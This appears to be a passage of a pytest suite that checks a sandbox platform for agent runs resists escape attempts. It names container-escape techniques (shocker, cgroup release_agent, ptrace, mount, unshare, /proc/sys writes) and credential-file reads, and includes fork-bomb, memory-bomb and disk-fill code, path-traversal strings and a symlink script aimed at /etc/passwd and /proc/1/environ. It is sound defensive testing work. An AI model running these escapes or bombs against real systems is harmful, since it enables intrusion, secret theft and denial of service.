        for line in res.output("stdout").splitlines():
            if line.startswith("ESC "):
                j = json.loads(line[4:])
                results[j["name"]] = j["r"]
        out["r"] = results
        out["events"] = history(api, res, run_b)
        out["runner_env"] = [kv for kv in pathlib.Path(f"/proc/{args['runner_pid']}/environ").read_bytes()
                             .decode(errors="replace").split("\0") if "=" in kv]
        out["host_comms"] = {pathlib.Path(f"/proc/{int(p.read_text().split()[0])}/comm").read_text().strip()
                             for p in (state / "pids").glob("*.pid")
                             if pathlib.Path(f"/proc/{int(p.read_text().split()[0])}/comm").exists()}
    finally:
        api.request("POST", f"/v1/runs/{run_a}/cancel", json={"reason": "escape suite done"})
        res_a = e2e.wait_terminal(endpoints, admin_token, run_a, timeout=60)
        out["run_a"], out["res_a"] = run_a, res_a
        for s in (tcp4, tcp6, rebind, front):
            if s:
                s.close()
        for s in (udp4, udp6):
            if s:
                s.close()
        ab.close()
        hdr_up.close()
        agent_up.close()
        for m in host_markers:
            m.unlink(missing_ok=True)
    return out


def R(world, name):
    r = world["r"]
    assert name in r, (f"the probe did not report {name!r}; run {world['run_id']} ({world['res'].terminal}) "
                       f"output tail: {world['res'].output()[-3000:]}")
    return r[name]


def egress(world, host=None, port=None, sni=None):
    out = []
    for e in world["events"]:
        if e["kind"] != "egress":
            continue
        d = e["data"]
        if host is not None and d.get("host") != host:
            continue
        if port is not None and d.get("port") != port:
            continue
        if sni is not None and d.get("sni") != sni:
            continue
        out.append(d)
    return out


def execs(events, prog):
    return [e["data"] for e in events if e["kind"] == "exec" and e["data"].get("argv")
            and os.path.basename(e["data"]["argv"][0]) == prog]


def errno_of(r):
    return r.get("errno")


# ---------------------------------------------------------------- the probe run itself


def test_probe_ran_to_the_end_and_node_is_clean(world):
    """The probe completed every attempt; run B and run A ended and left nothing on the node."""
    res = world["res"]
    assert "PROBE done" in res.output("stdout"), res.output()[-3000:]
    assert res.terminal == "succeeded", c.terminal_event(res)
    e2e.assert_node_clean(world["run_id"], res)
    assert world["res_a"].terminal == "cancelled", c.terminal_event(world["res_a"])
    e2e.assert_node_clean(world["run_a"], world["res_a"])


# ---------------------------------------------------------------- network


@pytest.mark.parametrize("name,sink", [("tcp4_host_loopback", "tcp4_conns"), ("tcp6_host_loopback", "tcp6_conns")])
def test_tcp_to_host_loopback(world, name, sink):
    """TCP connect to a listener on the host's 127.0.0.1 / ::1: refused (the sandbox's own loopback)."""
    r = R(world, name)
    assert r.get("connected") is False, r
    assert world[sink] == [], f"the host listener accepted {world[sink]}"


@pytest.mark.parametrize("name,sink", [("udp4_host_loopback", "udp4_got"), ("udp6_host_loopback", "udp6_got")])
def test_udp_to_host_loopback(world, name, sink):
    """UDP datagram to a host socket on 127.0.0.1 / ::1: nothing arrives, no reply."""
    r = R(world, name)
    assert not r.get("reply"), r
    assert world[sink] == [], f"the host UDP socket received {world[sink]}"


def test_tcp_to_other_loopback_address_and_stack_services(world):
    """Direct TCP to 127.0.0.2, to an allowed upstream (only the proxy reaches it) and to the platform's own
    API port: refused."""
    assert R(world, "tcp_host_127_0_0_2").get("connected") is False
    assert R(world, "tcp_test_upstream_direct").get("connected") is False
    assert R(world, "tcp_host_stack_api").get("connected") is False
    assert world["agent_up"].requests == [] or all(r["path"] == "/steal" for r in world["agent_up"].requests)


@pytest.mark.parametrize("name", ["iface_proc_net_dev", "route_ipv4", "route_ipv6", "iface_if_inet6"])
def test_only_loopback_interface_and_routes(world, name):
    """/proc/net/dev, /proc/net/route, /proc/net/ipv6_route, /proc/net/if_inet6 list only lo."""
    r = R(world, name)
    vals = r.get("ifaces") or r.get("devs")
    assert vals is not None, r
    assert set(vals) <= {"lo"}, r


def test_sys_class_net_shows_no_host_interface(world):
    """/sys/class/net does not list the host's interfaces (sysfs is an empty tmpfs)."""
    r = R(world, "iface_sys_class_net")
    assert set(r["list"]) <= {"lo"}, r


def test_host_sockets_not_visible(world):
    """/proc/net/{tcp,tcp6,udp,udp6} inside do not show the host's listeners."""
    ports = set(R(world, "host_sockets_in_proc_net")["ports"])
    a = world["args"]
    host_ports = {a["tcp4"], a["tcp6"], a["udp4"], a["udp6"], a["hdr_port"], a["api_port"]}
    assert not (ports & host_ports), f"host sockets visible inside: {ports & host_ports}"


def test_create_network_interface_fails(world):
    """`ip link add` (rtnetlink RTM_NEWLINK) is refused; the attempt is an exec event."""
    r = R(world, "netlink_add_interface")
    assert r.get("rc") not in (0, None), r
    assert execs(world["events"], "ip"), "no exec event for ip"


# ---------------------------------------------------------------- DNS


@pytest.mark.parametrize("name", ["dns_getaddrinfo_invalid", "dns_getaddrinfo_host_name"])
def test_name_resolution_fails(world, name):
    """getaddrinfo of a name (and of the host's own name) fails: no nameserver, no network."""
    r = R(world, name)
    assert "addrs" not in r and r.get("exc") == "gaierror", r


@pytest.mark.parametrize("name", ["dns_udp_127_0_0_53", "dns_udp_ipv6_loopback", "dns_tcp_127_0_0_1"])
def test_raw_dns_query_unanswered(world, name):
    """A hand-made DNS query to 127.0.0.53:53, [::1]:53 (UDP) or 127.0.0.1:53 (TCP) gets no answer."""
    r = R(world, name)
    assert not r.get("answered") and not r.get("connected"), r


def test_no_nameserver_configured(world):
    assert R(world, "dns_resolv_conf")["nameservers"] == []


# ---------------------------------------------------------------- raw sockets, abstract unix sockets


@pytest.mark.parametrize("name", ["raw_af_packet", "raw_icmp", "raw_icmpv6", "raw_ip_hdrincl"])
def test_raw_sockets_refused(world, name):
    """AF_PACKET and SOCK_RAW (ICMP, ICMPv6, IPPROTO_RAW) sockets: EPERM (no CAP_NET_RAW)."""
    r = R(world, name)
    assert not r.get("created"), r
    assert r.get("errno") in ("EPERM", "EACCES", "EAFNOSUPPORT"), r


def test_host_abstract_unix_socket(world):
    """Connecting to an abstract unix socket bound on the host fails: abstract names are per netns."""
    r = R(world, "abstract_unix_host")
    assert r.get("connected") is False, r
    assert not world["abstract_accepted"], "the host abstract socket accepted a connection"
    assert R(world, "abstract_unix_listed")["listed"] is False


# ---------------------------------------------------------------- egress proxy


LITERALS = {
    "decimal": "2130706433", "octal": "0177.0.0.1", "hex": "0x7f.1", "short": "127.1", "ipv6": "::1",
    "mapped": "::ffff:127.0.0.1", "mapped_hex": "::ffff:7f00:1", "dotted": "127.0.0.1",
}


@pytest.mark.parametrize("spelling", list(LITERALS))
def test_connect_ip_literal_denied(world, spelling):
    """CONNECT to an IP literal in every spelling (no IP rule for that port): 403 and an egress deny event."""
    r = R(world, "proxy_literal_" + spelling)
    assert " 403 " in r["status"] + " ", r
    port = world["args"]["tcp6"] if spelling == "ipv6" else world["args"]["tcp4"]
    ev = egress(world, host=LITERALS[spelling], port=port)
    assert ev and all(d["decision"] == "deny" for d in ev), (spelling, egress(world, port=port))
    assert all(d["reason"] == "platform egress floor: loopback" for d in ev), ev
    assert ev[0]["method"] == "CONNECT"
    assert world["tcp4_conns"] == [] and world["tcp6_conns"] == []


def test_plain_http_to_ip_literal_denied(world):
    """Plain HTTP (absolute-form GET) to a decimal IP literal: 403, egress deny with method and path."""
    r = R(world, "proxy_literal_plain_http")
    assert " 403 " in r["status"] + " ", r
    ev = [d for d in egress(world, host="2130706433") if d.get("method") == "GET"]
    assert ev and ev[0]["decision"] == "deny" and ev[0].get("path") == "/lit", egress(world, host="2130706433")


@pytest.mark.parametrize("name,method", [("proxy_disallowed_host_connect", "CONNECT"),
                                         ("proxy_disallowed_host_get", "GET")])
def test_disallowed_host_denied(world, name, method):
    """A host not in egress.allow (unknown: deny), by CONNECT and by plain GET: 403, egress deny rule unknown."""
    r = R(world, name)
    assert " 403 " in r["status"] + " ", r
    host = f"blocked-{TOK}.paddock.invalid"
    ev = [d for d in egress(world, host=host) if d.get("method") == method]
    assert ev and ev[0]["decision"] == "deny" and ev[0]["rule"] == "unknown", egress(world, host=host)


def test_connect_host_header_does_not_override_target(world):
    """CONNECT to a denied literal with the Host header of an allowed destination: still denied."""
    r = R(world, "proxy_host_header_mismatch")
    assert " 403 " in r["status"] + " ", r
    assert world["tcp4_conns"] == []
    assert world["hdr_up"].requests == [] or all(q["path"] in ("/hdr",) for q in world["hdr_up"].requests
                                                 if q["path"] != "/tunnel")


def test_origin_form_request_to_proxy_not_forwarded(world):
    """An origin-form request whose Host names a denied address is not forwarded anywhere."""
    r = R(world, "proxy_origin_form_host_header")
    assert " 200 " not in r["status"] + " ", r
    assert world["tcp4_conns"] == []


@pytest.mark.parametrize("name", ["proxy_rebinding_connect", "proxy_rebinding_get"])
def test_name_resolving_to_loopback_refused(world, name):
    """DNS rebinding: a name allowed by an inline host rule resolves to a non-public address, which only an
    approved profile's IP rule may reach."""
    r = R(world, name)
    assert " 403 " in r["status"] + " ", r
    port = world["args"]["rebind_port"]
    ev = egress(world, host=world["args"]["rebind_name"], port=port)
    assert ev and all(d["decision"] == "deny" for d in ev), ev
    assert any("rebinding" in d.get("reason", "") for d in ev), ev
    assert world["rebind_conns"] == [], world["rebind_conns"]


def test_rebinding_spelling_variant_refused(world):
    """The allowed name in upper case (another spelling, resolved from /etc/hosts): still refused.
    (No trailing-dot variant: the proxy would resolve "name." through the host's resolver.)"""
    r = R(world, "proxy_rebinding_case")
    assert " 403 " in r["status"] + " ", r
    upper = world["args"]["rebind_name"].upper()
    ev = [d for d in egress(world, port=world["args"]["rebind_port"]) if d["host"] == upper]
    assert ev and ev[0]["decision"] == "deny", egress(world, port=world["args"]["rebind_port"])
    assert world["rebind_conns"] == []


@pytest.mark.parametrize("name,sni,reason", [
    ("proxy_fronting_sni", f"front-{TOK}.paddock.invalid", "domain fronting"),
    ("proxy_fronting_no_sni", None, "without SNI"),
    ("proxy_fronting_plain_http", None, "does not start with a TLS ClientHello")])
def test_domain_fronting_refused(world, name, sni, reason):
    """CONNECT to an allowed name, then a TLS SNI of another host / no SNI / plain HTTP with another Host: refused."""
    r = R(world, name)
    assert r.get("tls") != "handshake ok" and "upstream" not in (r.get("reply") or ""), r
    port = world["args"]["front_port"]
    ev = [d for d in egress(world, host=world["args"]["front_name"], port=port) if reason in (d.get("reason") or "")]
    assert ev and ev[0]["decision"] == "deny", egress(world, port=port)
    if sni:
        assert ev[0].get("sni") == sni, ev
    assert world["front_data"] == b"", f"the fronting target received bytes: {world['front_data'][:200]!r}"


# ---------------------------------------------------------------- header secret


def test_header_secret_never_sent_in_clear(world):
    """The header secret's origin is https://localhost:443: a plain-HTTP request for that host on
    another port is refused (403), so the plain-text upstream never sees the secret (its delivery
    over the proxy's own TLS: tests/security/test_egress_bounds.py)."""
    r = R(world, "secret_header_use")
    assert r.get("exc") == "HTTPError" and "403" in r.get("msg", ""), r
    assert not [q for q in world["hdr_up"].requests if q["path"] == "/hdr"], world["hdr_up"].requests
    assert world["secret"].encode() not in world["hdr_up"].blob()


def test_header_secret_not_sent_to_agent_controlled_server(world):
    """The agent sends to its own (allowed) server with the secret host's Host header: no secret there."""
    r = R(world, "secret_header_to_own_server")
    assert world["secret"].encode() not in world["agent_up"].blob(), world["agent_up"].requests
    assert r["status"], r


def test_header_secret_not_injected_into_tunnel(world):
    """A CONNECT tunnel to the upstream's address carries the agent's bytes only (no injection into it)."""
    R(world, "secret_header_tunnel_to_upstream")
    tun = [q for q in world["hdr_up"].requests if q["path"] == "/tunnel"]
    for q in tun:
        assert world["secret"] not in json.dumps(q["headers"]), q


def test_header_secret_invisible_in_sandbox(world):
    """Env, /proc/*/environ, /proc/*/cmdline and every readable file: the secret (prefix) is nowhere."""
    r = R(world, "secret_search_sandbox")
    assert r["hits"] == [], r
    assert world["secret"] not in world["res"].output()
    blob = json.dumps(world["events"])
    assert world["secret"] not in blob and f"pdesc{TOK}-" not in blob


# ---------------------------------------------------------------- host files, other runs, runner-agent


def test_host_hostname_not_visible(world):
    """/etc is generated: /etc/hostname is the sandbox's, not the host's."""
    r = R(world, "host_etc_hostname")
    assert r["ok"] and r["data"].strip() == "paddock", r
    host = pathlib.Path("/etc/hostname").read_text().strip()
    if host != "paddock":
        assert host not in r["data"]


def test_host_shadow_not_readable(world):
    """/etc/shadow of the host is not there (generated /etc)."""
    r = R(world, "host_etc_shadow")
    assert not r["ok"] and r["errno"] in ("ENOENT", "EACCES"), r


def test_host_passwd_not_visible(world):
    """/etc/passwd lists only the sandbox's users, none of the host's."""
    users = set(R(world, "host_etc_passwd_users")["users"])
    assert users <= {"root", "agent", "nobody"}, users


def test_host_paths_absent(world):
    """/root, /work, /home, the stack's and runner's state dirs, the repo: absent in the sandbox."""
    r = R(world, "host_paths_visible")
    assert not any(r.values()), r


@pytest.mark.parametrize("name", ["host_marker_read", "host_marker_via_proc_root"])
def test_host_marker_unreadable(world, name):
    """Marker files written by the test in the state dirs: unreadable directly and via /proc/1/root."""
    r = R(world, name)
    assert r and all(not v["ok"] for v in r.values()), r


def test_host_marker_not_found_anywhere(world):
    """Walking the sandbox's whole tree finds neither the host marker's name nor its content."""
    assert R(world, "host_marker_walk")["found"] == []


def test_open_by_handle_at_refused(world):
    """open_by_handle_at (the "shocker" escape): EPERM."""
    r = R(world, "open_by_handle_at")
    assert r["ret"] == -1 and r["errno"] == "EPERM", r


def test_other_run_workspace_not_found(world):
    """Run A's workspace marker: not found by walking /, nor its content."""
    assert R(world, "other_run_walk")["found"] == []


def test_other_run_workspace_paths(world):
    """Run A's workspace via the runner state path, ../ tricks and /proc/*/cwd, /proc/*/root: absent."""
    r = R(world, "other_run_paths")
    assert r and not any(r.values()), {k: v for k, v in r.items() if v}


def test_workspace_parent_is_sandbox_root(world):
    """/workspace/.. and ../../.. are the sandbox's own root: no runs/ directory."""
    r = R(world, "other_run_parent_dirs")
    assert "runs" not in r["workspace_parent"] and world["run_a"] not in r["workspace_parent"], r
    assert r["workspace_parent"] == r["up3"], r


@pytest.mark.parametrize("name", ["runner_environ", "runner_mem"])
def test_runner_agent_proc_not_visible(world, name):
    """/proc/<runner-agent pid>/environ and /mem: not visible in the sandbox's pid namespace."""
    r = R(world, name)
    if r.get("ok"):
        # the pid number exists in the sandbox too: then it must be a sandbox process
        assert not any(kv in r.get("data", "") for kv in world["runner_env"] if kv.startswith("PADDOCK_")), r
    else:
        assert r["errno"] in ("ENOENT", "EACCES", "EPERM", "ESRCH"), r


def test_signal_runner_agent_fails(world):
    """kill(<runner-agent pid>, 0): ESRCH (or a sandbox process of the same number)."""
    r = R(world, "runner_kill")
    assert r.get("errno") in ("ESRCH", "EPERM") or world["args"]["runner_pid"] < 100, r


def test_ptrace_runner_agent_fails(world):
    """PTRACE_ATTACH to the runner-agent's host pid: refused."""
    r = R(world, "runner_ptrace_attach")
    assert r["ret"] == -1 and r["errno"] in ("EPERM", "ESRCH"), r


def test_proc_environ_holds_no_host_environment(world):
    """/proc/1/environ is the sandbox's own init; no process's environ shows the runner-agent's variables."""
    r = R(world, "proc1_environ")
    assert r["ok"], r
    runner = [kv for kv in world["runner_env"] if kv.startswith("PADDOCK_")]
    assert runner, "the runner-agent has no PADDOCK_ variables to compare with"
    allenv = R(world, "all_environ")
    blob = json.dumps(allenv)
    leaked = [kv for kv in runner if kv in blob]
    assert not leaked, f"runner-agent environment visible in the sandbox: {[kv.split('=')[0] for kv in leaked]}"
    assert "PADDOCK_" not in r["data"].replace("X-Paddock", "")


def test_host_processes_not_visible(world):
    """/proc and ps list only sandbox processes: none of the stack's services."""
    r = R(world, "host_processes")
    comms = set(r["procs"].values())
    host_only = world["host_comms"] - {"python3", "sh", "sleep"}
    assert host_only, world["host_comms"]
    assert not (comms & host_only), comms & host_only
    assert len(r["procs"]) < 20, r["procs"]
    assert not any(h in r["ps"].get("out", "") for h in host_only), r["ps"]


# ---------------------------------------------------------------- ptrace, mount, unshare, modules


SYSCALL_ATTEMPTS = ["ptrace_seize_sibling", "mount_bind_root", "mount_proc", "mount_cgroup_release_agent",
                    "fsopen", "open_tree", "pivot_root", "unshare_pid", "unshare_cgroup", "unshare_ipc_uts",
                    "finit_module", "delete_module", "request_key", "keyctl_join_session", "io_uring_enter",
                    "io_uring_register", "mknod_block_sda", "mknod_dev_mem_workspace", "syslog_read",
                    "setuid_syscall", "setresuid_syscall", "capset_raise", "clock_settime", "adjtimex",
                    "clock_adjtime"]


@pytest.mark.parametrize("name", SYSCALL_ATTEMPTS)
def test_privileged_syscall_refused(world, name):
    """ptrace of a sibling, mounts (bind, proc, cgroup, new mount API, pivot_root), unshare (pid, cgroup,
    ipc+uts), module loading/unloading, keyrings, io_uring, block/mem device nodes, kernel log, setuid/
    setresuid/capset to root, clock changes: each fails with EPERM."""
    r = R(world, name)
    assert r["ret"] == -1 and r["errno"] == "EPERM", r


@pytest.mark.parametrize("name,prog", [("mount_binary", "mount"), ("unshare_binary", "unshare"),
                                       ("date_binary", "date"), ("dmesg_binary", "dmesg")])
def test_privileged_tools_fail_and_are_exec_events(world, name, prog):
    """mount(8) (setuid on the host), unshare -Urn, date -s, dmesg: fail; each is an exec event."""
    r = R(world, name)
    assert r.get("rc") not in (0, None), r
    ev = execs(world["events"], prog)
    assert ev, f"no exec event for {prog}"


def test_cgroup_fs_not_reachable(world):
    """/sys/fs/cgroup (release_agent escape) is not there."""
    r = R(world, "sysfs_cgroup")
    assert not r["exists"] and not r["release_agent"]["ok"], r


# ---------------------------------------------------------------- writes, /proc/sys, limits


@pytest.mark.parametrize("name", ["write_dev", "write_sys", "write_var", "write_bin", "write_proc_core_pattern",
                                  "write_proc_modprobe", "write_proc_ip_forward", "write_proc_drop_caches",
                                  "write_uevent_helper"])
def test_write_outside_workspace_refused(world, name):
    """Writes to /dev, /sys, /var, /bin and /proc/sys (core_pattern, modprobe, ip_forward, drop_caches),
    /sys/kernel/uevent_helper: refused."""
    r = R(world, name)
    assert not r["ok"] and r["errno"] in ("EROFS", "EACCES", "EPERM", "ENOENT"), r


@pytest.mark.parametrize("name,cap", [("tmp_fill", 32), ("dev_shm_fill", 64)])
def test_tmpfs_fill_stops_at_limit(world, name, cap):
    """Filling /tmp (disk_mb) and /dev/shm (64 MiB) stops with ENOSPC at the size limit."""
    r = R(world, name)
    assert r["full"] and r["errno"] == "ENOSPC" and r["written_mb"] <= cap, r


# ---------------------------------------------------------------- device nodes, setuid


@pytest.mark.parametrize("dev", ["sda", "vda", "nvme0n1", "mem", "kmem", "port", "kmsg"])
def test_host_device_nodes_absent(world, dev):
    """/dev/sda-like disks, /dev/mem, /dev/kmem, /dev/port, /dev/kmsg: not present."""
    r = R(world, "open_dev_" + dev)
    assert not r["ok"] and r["errno"] in ("ENOENT", "EACCES", "EPERM"), r


def test_proc_kmsg_unreadable(world):
    r = R(world, "proc_kmsg")
    assert not r["ok"] or r.get("data") == "", r


def test_setuid_root_copy_cannot_be_made(world):
    """A copy of a binary cannot be chowned to root; its setuid bit (on its own uid, nosuid mount) gains nothing."""
    r = R(world, "setuid_root_copy")
    assert r["chown"] == "EPERM" and r["owner"] == 1000, r
    assert r["run"]["rc"] == 0 and r["run"]["out"].strip() == "1000", r


@pytest.mark.parametrize("name,prog", [("setuid_su", "su"), ("setuid_passwd_status", "passwd"),
                                       ("setuid_sudo", "sudo"), ("setuid_newgrp", "newgrp")])
def test_host_setuid_binaries_do_not_raise_privileges(world, name, prog):
    """su, passwd -S (must read shadow), sudo -n, newgrp: setuid on the host, powerless here (nosuid, NoNewPrivs)."""
    r = R(world, name)
    assert r.get("rc") not in (0, None) or r.get("out", "").strip() not in ("0",), r
    assert r.get("out", "").strip() != "0", r
    assert R(world, "no_new_privs")["nnp"] == "1"
    assert execs(world["events"], prog), f"no exec event for {prog}"


# ---------------------------------------------------------------- bombs (quick variants of test_limits.py)


def test_python_fork_bomb(endpoints, admin_token, runs):
    """os.fork() recursion (not the shell loop of test_limits): killed at pids.max, `limit` pids event."""
    bomb = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"
    s = c.spec([PY, "-c", bomb], timeout_s=90, pids=24, memory_mb=512)
    run_id, res = c.run_to_end(endpoints, admin_token, runs, s)
    assert res.terminal == "limit_exceeded", c.terminal_event(res)
    ev = c.limit_events(res, "pids")
    assert ev and ev[0]["value"] == 24, res.of_kind("limit")
    e2e.assert_node_clean(run_id, res)


def test_single_huge_allocation_memory_bomb(endpoints, admin_token, runs):
    """One 512 MiB allocation touched at once (not a growing list): OOM-killed, `limit` memory event."""
    bomb = "b = bytearray(512 << 20)\nfor i in range(0, len(b), 4096):\n    b[i] = 1\nprint('survived')\n"
    s = c.spec([PY, "-c", bomb], timeout_s=60, memory_mb=64)
    run_id, res = c.run_to_end(endpoints, admin_token, runs, s)
    assert "survived" not in res.output(), res.output()
    assert res.terminal == "limit_exceeded", c.terminal_event(res)
    assert c.limit_events(res, "memory"), res.of_kind("limit")
    e2e.assert_node_clean(run_id, res)


def test_many_small_files_disk_fill(endpoints, admin_token, runs):
    """Filling the workspace with many small files (not one big dd): ENOSPC at disk_mb, `limit` disk event."""
    fill = ("import os\nos.makedirs('fill', exist_ok=True)\ni = 0\n"
            "try:\n    while True:\n        open('fill/%d' % i, 'wb').write(b'x' * 65536); i += 1\n"
            "except OSError as e:\n    print('stopped', e.strerror, i)\n    raise SystemExit(1)\n")
    s = c.spec([PY, "-c", fill], timeout_s=60, disk_mb=16, memory_mb=256)
    run_id, res = c.run_to_end(endpoints, admin_token, runs, s)
    assert "No space left on device" in res.output(), res.output()[-1000:]
    assert res.terminal == "limit_exceeded", c.terminal_event(res)
    ev = c.limit_events(res, "disk")
    assert ev and ev[0]["value"] == 16, res.of_kind("limit")
    e2e.assert_node_clean(run_id, res)


# ---------------------------------------------------------------- managed files and artifacts


@pytest.mark.parametrize("path", ["../escape", "/etc/passwd", "a/../../escape", "a/..", "a//b", "a/", "..",
                                  "./x", "a/./b", "x\u0000y", ""])
def test_managed_file_bad_path_refused(api, team_id, path):
    """A spec file path with "..", absolute, empty or "." components, a NUL: the API answers 400."""
    spec = e2e.command_spec(["true"], files=[{"path": path, "content": "evil", "mode": "0644"}])
    r = api.post("/v1/sandboxes", json={"name": e2e.unique_name("esc"), "team": team_id, "spec": spec})
    assert r.status_code == 400, f"{path!r}: {r.status_code} {r.text[:300]}"


@pytest.fixture(scope="module")
def symlink_run(endpoints, admin_token, api, runs, tenant_id):
    rsd = os.environ["PADDOCK_RUNNER_STATE_DIR"]
    marker = pathlib.Path(rsd) / f"symlink-marker-{TOK}"
    content = f"symlink-target-content-{uuid.uuid4().hex}"
    marker.write_text(content)
    script = ("ln -s /etc/passwd evil; ln -s ../../.. up; ln -s %s runner; ln -s %s hostmarker; "
              "ln -s ../baseline base; ln -s /proc/1/environ env; mkdir d; ln -s ../../../../../../etc d/etc; "
              "echo changed > managed.txt; echo done") % (rsd, marker)
    try:
        s = c.spec(["/bin/sh", "-c", script], timeout_s=60,
                   files=[{"path": "managed.txt", "content": "original\n", "mode": "0644"}])
        run_id, res = c.run_to_end(endpoints, admin_token, runs, s)
        events = history(api, res, run_id)
        deadline = time.monotonic() + 30
        entry = None
        while time.monotonic() < deadline and not entry:
            items = api.ok("GET", f"/v1/runs/{run_id}/artifacts", expect=(200,)).get("items", [])
            entry = next((a for a in items if a.get("kind") == "diff"), None)
            if not entry:
                time.sleep(1)
        assert entry, f"no diff artifact for run {run_id}"
        r = api.get(f"/v1/runs/{run_id}/artifacts/{entry['name']}", allow_redirects=False)
        assert r.status_code == 302, r.text[:300]
        e2e.assert_loopback_url(r.headers["Location"])
        body = requests.get(r.headers["Location"], timeout=30).content
        items = api.ok("GET", f"/v1/runs/{run_id}/artifacts", expect=(200,)).get("items", [])
        return {"run_id": run_id, "res": res, "events": events, "diff": body, "items": items,
                "content": content}
    finally:
        marker.unlink(missing_ok=True)


def test_symlinks_in_workspace_not_followed_by_diff(symlink_run):
    """Symlinks to /etc/passwd, ../../.., the runner state dir, a host marker, the baseline, /proc/1/environ:
    the diff artifact records links, never their targets' contents."""
    d = symlink_run["diff"]
    assert symlink_run["res"].terminal == "succeeded", c.terminal_event(symlink_run["res"])
    assert b"changed" in d, d[:2000]  # the diff was captured at all
    assert symlink_run["content"].encode() not in d
    host_passwd = pathlib.Path("/etc/passwd").read_bytes()
    for line in host_passwd.splitlines():
        if line and not line.startswith((b"root:", b"nobody:")):
            assert line not in d, f"host /etc/passwd line in the diff: {line!r}"
    assert b"PADDOCK_" not in d
    for item in symlink_run["items"]:
        assert ".." not in item["name"] and not item["name"].startswith("/"), item
    e2e.assert_node_clean(symlink_run["run_id"], symlink_run["res"])


def test_symlink_creation_is_seen(symlink_run):
    """The platform sees the attempt: `ln` processes are exec events, the links file_access creates."""
    ev = symlink_run["events"]
    assert len(execs(ev, "ln")) >= 7, [e["data"] for e in ev if e["kind"] == "exec"]
    created = {e["data"].get("path") for e in ev if e["kind"] == "file_access" and e["data"].get("mode") == "create"}
    assert {"evil", "up", "runner", "hostmarker"} <= created, created
